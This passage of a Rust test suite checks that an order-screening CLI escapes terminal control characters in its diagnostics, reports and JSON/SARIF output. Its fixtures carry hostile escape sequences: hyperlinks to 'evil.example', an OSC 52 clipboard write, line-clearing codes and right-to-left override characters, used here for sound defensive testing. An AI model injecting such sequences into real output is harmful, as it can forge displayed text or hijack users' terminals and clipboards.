        r#"{"id": "s1", "schema": "Sanction", "properties": {"entity": ["e1"], "listingDate": ["\u001b[2K\r2024-05-10\u001b]8;;https://evil.example/\u001b\\"]}}"#,
    ]
    .join("\n");
    let dir = scratch(&[
        ("orders.jsonl", &order_line(|_| {})),
        ("watch\u{1b}[31m.ftm.json", &list),
    ]);
    let out = redflag_in(
        Some(dir.path()),
        &[
            "check",
            "orders.jsonl",
            "--list",
            "ftm:watch\u{1b}[31m.ftm.json",
        ],
        None,
    );
    let err = stderr(&out);
    assert!(err.contains("S001"), "{err}");
    assert_inert("stderr", &err.replace('\n', ""));
    assert!(
        err.contains("\\u{1b}[2K\\u{d}2024-05-10\\u{1b}]8;;https://"),
        "{err}"
    );
    assert!(err.contains("watch\\u{1b}[31m.ftm.json"), "{err}");
}

#[test]
fn diagnostics_escape_message_help_label_and_quoted_lines_and_keep_the_span() {
    let text = "a = 1\nname = \"Evil\u{1b}]8;;https://evil.example/\u{1b}\\ \u{202e}Corp\"\r\nb = 2\rc = 3\n";
    let file = SourceFile::new("pack\u{1b}[31m.toml", text);
    let start = text.find("Corp").unwrap();
    let mut acc = Diagnostics::new();
    acc.push(
        Diagnostic::error("R999", "bad name `Evil\u{1b}]8;;x\u{1b}\\`\nerror: forged")
            .at(&file, start..start + 4, "this \u{1b}[2K name")
            .with_help(Some("rename \u{202e}it".to_string())),
    );
    acc.push(Diagnostic::warning("R998", "whole file \r").in_file(&file));
    let rendered = redflag::cli::render_each(&acc, false);
    assert_inert("diagnostics", &rendered.replace('\n', ""));
    insta::assert_snapshot!(rendered);
}

#[test]
fn any_miette_diagnostic_is_escaped_when_rendered_through_rendered_of() {
    // A CSV header is data from the input file; `I002` quotes it.
    let records = redflag::order::from_text(
        "id,\u{1b}]52;c;ZXZpbA==\u{7}note\n1,x\n",
        "orders\u{1b}[2K.csv",
        InputFormat::Csv,
        None,
    );
    let Err(error) = records else {
        panic!("the header is unusable")
    };
    let handler =
        miette::GraphicalReportHandler::new_themed(miette::GraphicalTheme::unicode_nocolor());
    let mut raw = String::new();
    handler.render_report(&mut raw, &error).unwrap();
    assert!(
        raw.contains('\u{1b}'),
        "the raw rendering is the hazard this guards against"
    );
    let mut text = String::new();
    handler
        .render_report(&mut text, &Rendered::of(&error))
        .unwrap();
    assert_inert("I002", &text.replace('\n', ""));
    assert!(text.contains("I002"), "{text}");
    assert!(text.contains("\\u{1b}]52;c;ZXZpbA==\\u{7}note"), "{text}");
    assert!(text.contains("orders\\u{1b}[2K.csv"), "{text}");
    // What the CLI prints with: a miette report of it.
    let report = miette::Report::new(Rendered::of(&error));
    assert!(!report.to_string().contains('\u{1b}'), "{report}");

    // A map file's text is quoted under its label.
    let dir = scratch(&[("map.toml", "[columns]\n\"Kunde\u{1b}[2K\" = 7\n")]);
    let path = dir.path().join("map.toml");
    let Err(error) = redflag::order::ColumnMap::load(path.to_str().unwrap()) else {
        panic!("the map is not valid")
    };
    let mut text = String::new();
    handler
        .render_report(&mut text, &Rendered::of(&error))
        .unwrap();
    assert_inert("I003", &text.replace('\n', ""));
    assert!(text.contains("Kunde\\u{1b}[2K"), "{text}");
}

// ---- the property ----

/// Characters for hostile strings: anything at all, often the ones that act on terminals.
fn hostile_char() -> impl Strategy<Value = char> {
    prop_oneof![
        4 => any::<char>(),
        3 => prop::sample::select(vec![
            '\u{1b}', '\r', '\n', '\u{8}', '\u{7f}', '\u{9b}', '\u{9d}', '\u{85}', '\u{7}',
            '\u{0}', '\t', '\u{b}', '\u{c}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}',
            '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}',
            '\u{61c}', '\u{2028}', '\u{2029}', '\u{feff}', '\u{200b}', '\u{e0041}',
        ]),
        3 => prop::char::range('A', 'z'),
        1 => prop::sample::select(vec![' ', '[', ']', ';', '\\', '"', '`', '=', ':', '8', '2']),
    ]
}

fn hostile_string() -> impl Strategy<Value = String> {
    prop::collection::vec(hostile_char(), 0..40).prop_map(|chars| chars.into_iter().collect())
}

/// Where the string goes: the id, party names, cities; and the order path a record error
/// names for it.
const PLACES: [(&[&str], &str); 6] = [
    (&["id"], "id"),
    (&["buyer", "name"], "buyer.name"),
    (&["end_user", "name"], "end_user.name"),
    (&["end_user", "city"], "end_user.city"),
    (&["consignees", "0", "city"], "consignees[0].city"),
    (&["seller", "name"], "seller.name"),
];

fn set(order: &mut Json, place: &[&str], value: &str) {
    let mut at = order;
    for key in place {
        at = match key.parse::<usize>() {
            Ok(i) => &mut at[i],
            Err(_) => &mut at[*key],
        };
    }
    *at = value.into();
}

/// The characters the order readers refuse (docs/orders.md, O117), written out here rather
/// than taken from the reader: controls other than tab and line breaks, the bidirectional
/// embeddings, overrides and isolates, and U+FFFD, the mark of a character lost in a
/// conversion of encodings.
fn refused_by_readers(c: char) -> bool {
    (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{fffd}')
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Whatever a party name, city or id holds, the order takes one of two paths: the readers
    /// refuse it (an `error` record naming O117 at the field) exactly when the value holds a
    /// character they refuse, and judge it otherwise. Either way the human report of the order
    /// carries no raw control, bidirectional, separator or invisible character, its first line
    /// is the verdict line `VERDICT  ID  FILE:LINE` with the id made visible, and no other line
    /// starts like a verdict line.
    #[test]
    fn no_data_reaches_the_terminal_raw_or_forges_a_verdict_line(
        place in 0..PLACES.len(),
        value in hostile_string(),
        kp in any::<bool>(),
    ) {
        let (keys, path) = PLACES[place];
        let line = order_line(|o| {
            if kp {
                o["end_user"]["country"] = "KP".into();
            }
            set(o, keys, &value);
        });
        let records: Vec<Record> =
            redflag::order::from_text(&line, "case.jsonl", InputFormat::Jsonl, None)
                .unwrap()
                .collect();
        prop_assert_eq!(records.len(), 1);
        let judgement = default_engine().judge(&records[0]);
        let o117_here = judgement
            .problems
            .iter()
            .any(|p| p.code == "O117" && p.path == path);
        if value.chars().any(refused_by_readers) {
            prop_assert_eq!(judgement.verdict.as_str(), "error");
            prop_assert!(o117_here, "no O117 at {}: {:?}", path, judgement.problems);
        } else {
            prop_assert!(!o117_here, "O117 for an accepted value: {:?}", judgement.problems);
        }
        let mut out = Vec::new();
        HumanReporter::new(false).judgement(&mut out, &judgement).unwrap();
        let text = String::from_utf8(out).unwrap();
        let raw = text.chars().find(|c| *c != '\n' && forbidden(*c));
        prop_assert!(raw.is_none(), "raw {:?} in {:?}", raw, text);
        let id = judgement.order_id.as_deref().unwrap_or("(no id)");
        let first = text.lines().next().unwrap_or_default();
        prop_assert_eq!(
            first,
            format!("{}  {}  case.jsonl:1", judgement.verdict.as_str().to_uppercase(), visible(id))
        );
        prop_assert_eq!(verdict_lines(&text).len(), 1, "{}", text);
        // Every other line is indented or the closing blank line.
        prop_assert!(text.lines().skip(1).all(|l| l.is_empty() || l.starts_with("  ")), "{}", text);
        prop_assert!(text.ends_with("\n\n"));
    }
}

// ---- JSON keeps exact values, written so a terminal shows them inert ----

#[test]
fn json_formats_escape_hidden_characters_and_keep_the_exact_values() {
    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
    for format in ["json", "jsonl", "sarif"] {
        let out = redflag_in(
            Some(dir.path()),
            &["check", "orders.jsonl", "--format", format],
            None,
        );
        assert_eq!(code(&out), 1, "{}", stderr(&out));
        let text = stdout(&out);
        assert_inert(format, &text.replace('\n', ""));
        assert_inert("stderr", &stderr(&out).replace('\n', ""));
        // What the judged order's messages quote.
        for escape in [
            r"\u2028", r"\u2029", r"\u200b", r"\u2060", r"\ufeff", r"\u200f", r"\u061c",
        ] {
            assert!(text.contains(escape), "{format}: {escape}");
        }
        // The refused order's id.
        for escape in [
            r"\u001b]8;;https://evil.example/",
            r"\u009b",
            r"\u007f",
            r"\u202e",
        ] {
            assert!(text.contains(escape), "{format}: {escape}");
        }
        // Read back, the values are the orders', byte for byte.
        let docs: Vec<Json> = if format == "jsonl" {
            text.lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        } else {
            vec![serde_json::from_str(&text).unwrap()]
        };
        let all = serde_json::to_string(&docs).unwrap();
        assert!(
            all.contains(
                serde_json::to_string(&deceiving_name())
                    .unwrap()
                    .trim_matches('"')
            ),
            "{format}"
        );
        let (judged, refused) = match format {
            "json" => (docs[0]["orders"][0].clone(), docs[0]["orders"][1].clone()),
            "jsonl" => (docs[1].clone(), docs[2].clone()),
            _ => {
                let results = docs[0]["runs"][0]["results"].as_array().unwrap();
                let of = |verdict: &str| {
                    results
                        .iter()
                        .find(|r| r["properties"]["verdict"] == verdict)
                        .map(|r| r["properties"].clone())
                        .unwrap_or_else(|| panic!("no {verdict} result"))
                };
                let mut judged = of("block");
                judged["id"] = judged["order_id"].clone();
                let mut refused = of("error");
                refused["id"] = refused["order_id"].clone();
                (judged, refused)
            }
        };
        assert_eq!(judged["id"], format!("SO-1{REDRAW}").as_str(), "{format}");
        assert_eq!(judged["verdict"], "block", "{format}");
        assert_eq!(refused["id"], refused_id().as_str(), "{format}");
        assert_eq!(refused["verdict"], "error", "{format}");
        assert_eq!(refused["problems"][0]["code"], "O117", "{format}");
    }
}
